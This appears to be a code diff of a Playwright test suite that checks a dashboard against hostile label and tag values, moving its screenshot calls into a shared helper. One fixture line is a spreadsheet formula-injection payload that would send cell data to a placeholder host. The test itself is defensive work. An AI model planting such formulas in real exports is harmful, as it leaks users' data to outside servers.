@@ -1,7 +1,6 @@
-import { join } from 'node:path';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ROOT, serveDashboard, type ServedDashboard } from '../browser/harness.js';
+import { screenshot, serveDashboard, type ServedDashboard } from '../browser/harness.js';
 import { HOSTILE_TAG_VALUES, hostileNodePool, hostileTeams, seedHostileDb, type HostileDb } from './fixtures/hostile-db.js';
 
 /*
@@ -88,7 +87,7 @@ describe('the dashboard over hostile label and tag values', () => {
     expect(injected).toBe(0);
     expect(shown[0], `${pool} shown in the page's content`).toBeGreaterThan(0);
     const name = path === '/' ? 'overview' : path.slice(1);
-    await page.screenshot({ path: join(ROOT, 'test', 'screenshots', `hostile-${name}.png`), fullPage: true });
+    await screenshot(page, `hostile-${name}`);
     await page.context().close();
   });
 
@@ -106,7 +105,7 @@ describe('the dashboard over hostile label and tag values', () => {
         '=HYPERLINK("https://example.invalid/?q="&A1,"open")',
       ]),
     );
-    await page.screenshot({ path: join(ROOT, 'test', 'screenshots', 'hostile-teams.png'), fullPage: true });
+    await screenshot(page, 'hostile-teams');
     await page.context().close();
   });
 
